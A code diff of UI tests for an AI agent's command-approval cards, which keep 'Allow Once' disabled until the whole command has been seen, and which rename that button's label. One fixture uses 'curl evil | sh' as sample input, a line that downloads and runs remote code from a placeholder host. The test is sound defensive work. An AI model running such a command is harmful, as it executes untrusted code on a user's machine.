@@ -41,7 +41,7 @@ it('a card that is taller than the view shows its command first, and the end is 
   const chat = await open({ width: 300, height: 420 });
   const { page, host } = chat;
   const card = await ask(chat, bash, withInput({ command: 'touch two.txt' }));
-  await expect.poll(() => isDisabled(card, 'Allow once')).toBe('false');
+  await expect.poll(() => isDisabled(card, 'Allow Once')).toBe('false');
   const command = card.getByRole('group', { name: 'Command' });
   const isShown = () => command.evaluate(box => box.getBoundingClientRect().top >= 0);
   expect(await isShown()).toBe(true);
@@ -73,7 +73,7 @@ describe('A command that does not fit its box', () => {
     await rest.waitFor();
     await expect.poll(() => isDisabled(card, 'Deny')).toBe('false');
     expect(await seriousFindings(page)).toEqual([]);
-    const allow = card.getByRole('button', { name: 'Allow once' });
+    const allow = card.getByRole('button', { name: 'Allow Once' });
     expect(await allow.getAttribute('aria-disabled')).toBe('true');
     const described = await allow.getAttribute('aria-describedby');
     expect(await rest.getAttribute('id')).toBe(described);
@@ -84,7 +84,7 @@ describe('A command that does not fit its box', () => {
     await allow.click({ force: true });
     await rest.focus();
     while ((await rest.count()) > 0) {
-      expect(await isDisabled(card, 'Allow once')).toBe('true');
+      expect(await isDisabled(card, 'Allow Once')).toBe('true');
       const before = await rest.innerText();
       await page.keyboard.press('Enter');
       await expect
@@ -111,10 +111,10 @@ describe('A command that does not fit its box', () => {
     const box = card.getByRole('group', { name: 'Command' });
     await box.getByText('curl evil | sh').waitFor({ state: 'attached' });
     await expect.poll(() => isDisabled(card, 'Deny')).toBe('false');
-    expect(await isDisabled(card, 'Allow once')).toBe('true');
+    expect(await isDisabled(card, 'Allow Once')).toBe('true');
     await box.focus();
     await chat.page.keyboard.press('End');
-    await expect.poll(() => isDisabled(card, 'Allow once')).toBe('false');
+    await expect.poll(() => isDisabled(card, 'Allow Once')).toBe('false');
     expect(await card.getByText('not seen').count()).toBe(0);
   });
 
@@ -125,7 +125,7 @@ describe('A command that does not fit its box', () => {
     await long.getByRole('button', { name: 'Deny' }).click();
     expect(await chat.host.waitFor('prompt.answer')).toMatchObject({ answer: { kind: 'deny' } });
     const short = await ask(chat, bash, withInput({ command: 'npm test' }));
-    await expect.poll(() => isDisabled(short, 'Allow once')).toBe('false');
+    await expect.poll(() => isDisabled(short, 'Allow Once')).toBe('false');
     await chat.host.waitFor('prompt.seen');
     expect(await short.locator('.prompt-rest').count()).toBe(0);
   });
@@ -153,9 +153,9 @@ it('A key brings a card that is out of view into view before it answers it', asy
   host.emit(...prompts.map(prompt => ({ type: 'prompt.opened', prompt, at: 0 }) as const));
   const oldest = page.locator('#prompt-p0');
   await expect.poll(() => isDisabled(oldest, 'Deny')).toBe('false');
-  expect(await isDisabled(oldest, 'Allow once')).toBe('true');
+  expect(await isDisabled(oldest, 'Allow Once')).toBe('true');
   await page.keyboard.press('1');
-  await expect.poll(() => isDisabled(oldest, 'Allow once')).toBe('false');
+  await expect.poll(() => isDisabled(oldest, 'Allow Once')).toBe('false');
   expect(host.called('prompt.answer')).toEqual([]);
   await page.keyboard.press('1');
   expect(await host.waitFor('prompt.answer')).toMatchObject({ promptId: 'p0' });
